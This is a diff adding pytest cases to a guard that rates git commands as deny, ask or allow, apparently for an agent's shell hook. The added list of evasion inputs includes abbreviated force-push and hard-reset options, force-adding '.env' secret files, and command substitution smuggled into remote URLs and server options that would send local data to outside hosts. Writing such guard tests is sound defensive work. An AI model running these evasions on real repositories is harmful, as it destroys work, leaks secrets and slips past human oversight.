@@ -236,6 +236,88 @@ def test_script_file_run_by_bash_is_checked(project: Project) -> None:
     assert "[git-force-push]" in run.stderr
 
 
+# git resolves abbreviated long options (--h is --hard), unresolvable refs (@{-1}), pathspec
+# globs and URLs on its own; the guard must see what git will do, not what was typed.
+GIT_EVASIONS = [
+    ("reset-hard-abbrev", "git reset --h", "deny"),
+    ("reset-hard-abbrev-commit-dashdash", "git reset --ha HEAD~1 --", "deny"),
+    ("reset-commit-dashdash", "git reset HEAD~1 --", "ask"),
+    ("clean-force-abbrev", "git clean --f", "ask"),
+    ("checkout-force-abbrev", "git checkout --fo feature/x", "ask"),
+    ("branch-delete-abbrev", "git branch --d main", "ask"),
+    ("branch-delete-previous", "git branch -d @{-1}", "ask"),
+    ("branch-rename-dash", "git branch -m - old", "ask"),
+    ("branch-delete-upstream", "git branch -D @{u}", "ask"),
+    ("branch-rename-current", "git switch -q feature/x && git branch -m old", "ask"),
+    ("push-mirror-abbrev", "git push --m origin", "deny"),
+    ("push-force-abbrev-eq", "git push --forc=main origin main", "deny"),
+    ("push-delete-abbrev", "git push --del origin feature/x", "deny"),
+    ("push-no-verify-negated-abbrev", "git push --no-veri origin main", "deny"),
+    ("stash-all-abbrev", "git stash --a; git stash apply", "ask"),
+    ("stash-apply-keeps-commit", "git stash; git stash apply", "ask"),
+    ("stash-pop-conditional", "git stash; false && git stash pop", "ask"),
+    ("stash-pop-other-entry", "git stash; git stash pop stash@{3}", "ask"),
+    ("add-force-pathspec-glob", "git add -f '*.env'; git commit -qm 'chore: env'", "ask"),
+    ("add-force-pathspec-icase", "git add --forc ':(icase,top)*.ENV*'", "ask"),
+    ("add-force-pathspec-attr", "git add -f ':(attr:secret)'", "ask"),
+    ("add-force-dot", "git add -f .", "ask"),
+    ("ls-remote-url-substitution", 'git ls-remote "https://example.invalid/$(cat VERSION)"', "ask"),
+    ("fetch-url-variable", 'git fetch "$SINK/x"', "ask"),
+    ("clone-server-option", 'git clone -o "$(id -u)" https://example.invalid/x.git', "ask"),
+    ("ls-remote-server-option", 'git ls-remote --server-o="$(whoami)" origin', "ask"),
+    ("upload-pack-abbrev", "git ls-remote --u='touch /tmp/x' origin", "ask"),
+    (
+        "fixture-write",
+        "mkdir -p tests/fixtures/secrets && echo k > tests/fixtures/secrets/k.txt",
+        "ask",
+    ),
+    ("git-mv-force-over", "git mv -f app.py README.md", "ask"),
+]
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [pytest.param(command, expected, id=name) for name, command, expected in GIT_EVASIONS],
+)
+def test_git_evasion_is_stopped(project: Project, command: str, expected: str) -> None:
+    project.write(".env", "OPENAI_API_KEY=fake\n")
+    project.write(".gitignore", ".env\n")
+    project.write("app.py", "print('hi')\n")
+    project.write("README.md", "# readme\n")
+    project.git("add", ".gitignore", "app.py", "README.md")
+    project.git("commit", "-q", "-m", "init")
+    project.git("branch", "feature/x")
+    project.git("remote", "add", "origin", str(project.root))
+    project.write("README.md", "# readme\nwork in progress\n")
+    assert decision(project.bash(command)) == expected
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git rebase --continue",
+        "git -c core.pager=cat log -1",
+        "git stash && git stash pop",
+        "git add '*.py'",
+        "git reset HEAD -- app.py",
+        "git reset -- app.py",
+        "git branch -d feature/x",
+        "git fetch origin",
+        "git log --oneline -3",
+    ],
+)
+def test_git_everyday_spelling_is_allowed(project: Project, command: str) -> None:
+    project.write(".env", "OPENAI_API_KEY=fake\n")
+    project.write(".gitignore", ".env\n")
+    project.write("app.py", "print('hi')\n")
+    project.git("add", ".gitignore", "app.py")
+    project.git("commit", "-q", "-m", "init")
+    project.git("branch", "feature/x")
+    project.git("remote", "add", "origin", str(project.root))
+    run = project.bash(command)
+    assert decision(run) == "allow", run.stdout + run.stderr
+
+
 # --------------------------------------------------------------------------------------------
 # Secrets
 # --------------------------------------------------------------------------------------------
